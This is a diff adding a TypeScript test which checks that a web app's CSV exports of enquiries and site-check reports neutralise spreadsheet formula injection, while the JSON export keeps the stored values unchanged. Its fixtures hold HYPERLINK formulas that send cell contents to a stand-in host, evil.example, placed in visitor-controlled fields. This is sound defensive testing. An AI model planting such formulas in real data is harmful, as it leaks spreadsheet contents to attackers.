@@ -55,6 +55,46 @@ test('CSV export round-trips commas, quotes, newlines and non-ASCII, with a BOM,
   }
 });
 
+test('a formula in any text a stranger controls is neutralised in every export for spreadsheets, and exact in JSON', async () => {
+  const server = await startServer({ RATE_LIMIT_MAX: '100' });
+  try {
+    // Each leading character a spreadsheet runs, in every field a visitor can fill, the browser's
+    // record of the visit (both touches), the user agent and the check's summary.
+    const formula = (lead: string, field: string) => `${lead}HYPERLINK("http://evil.example/?${field}="&A1,"Click")`;
+    const tags = { utm_source: formula('=', 'src'), utm_medium: formula('+', 'med'), utm_campaign: formula('-', 'camp'), utm_term: formula('@', 'term'), utm_content: formula('=', 'content'), utm_id: formula('+', 'id') };
+    const landing = { at: Date.now() - 60_000, path: '/strategy/google-ads', params: tags };
+    const posted = await server.app.inject({
+      method: 'POST',
+      url: '/api/seo-audit-request',
+      headers: { 'user-agent': formula('@', 'ua') },
+      payload: validEnquiry({ name: formula('=', 'name'), email: '=1+1@example.com.au', phone: '+61 400 000 000', goals: formula('-', 'goals'), attribution: { first: landing, last: landing, pages: 2 } }),
+    });
+    assert.is(posted.statusCode, 201, posted.body);
+    const id = posted.json().id as number;
+    const check = auditByPublicId(server.app.db, queueAudit(server.app.db, id, 'https://janes-bakery.com.au/', new Date().toISOString()))!;
+    finishAudit(server.app.db, check, { status: 'failed', score: null, findings: [], summary: formula('=', 'summary') });
+
+    const isFormula = (cell: string) => /^[=+\-@\t\r]/.test(cell);
+    const [row] = parseCsv((await exportCli(server.config.DATABASE_PATH, ['--format', 'csv'])).stdout, { bom: true, columns: true }) as Record<string, string>[];
+    assert.equal(Object.entries(row!).filter(([, cell]) => isFormula(cell)), [], 'no cell of the staff CSV runs');
+    for (const [column, sent] of [['name', formula('=', 'name')], ['email', '=1+1@example.com.au'], ['phone', '+61 400 000 000'], ['goals', formula('-', 'goals')], ['user_agent', formula('@', 'ua')], ['audit_summary', formula('=', 'summary')], ['first_campaign', tags.utm_campaign], ['last_term', tags.utm_term], ['last_content', tags.utm_content], ['first_utm_id', tags.utm_id]] as const) {
+      assert.is(row![column], `'${sent}`, column);
+    }
+    assert.is(row!.first_source, `'${tags.utm_source.toLowerCase()}`, 'sources are named in lower case');
+
+    const report = await run(process.execPath, ['--import', 'tsx', 'scripts/report.ts', '--format', 'csv'], { env: { ...process.env, DATABASE_PATH: server.config.DATABASE_PATH } });
+    const reportCells = (parseCsv(report.stdout, { bom: true, relax_column_count: true }) as string[][]).flat();
+    assert.equal(reportCells.filter(isFormula), [], "no cell of the report's CSV runs");
+    assert.ok(reportCells.includes(`'${tags.utm_campaign}`), 'the campaign is in the report, neutralised');
+
+    // JSON lines are for programs: values as stored (see src/enquiries/export.ts).
+    const [line] = (await exportCli(server.config.DATABASE_PATH, ['--format', 'json'])).stdout.trim().split('\n').map((l) => JSON.parse(l));
+    assert.equal([line.name, line.goals, line.first_campaign, line.audit_summary], [formula('=', 'name'), formula('-', 'goals'), tags.utm_campaign, formula('=', 'summary')]);
+  } finally {
+    await server.close();
+  }
+});
+
 test('the export gives each site check its pages, problems and improvements, right after audit_summary', async () => {
   const server = await startServer({ RATE_LIMIT_MAX: '100' });
   try {
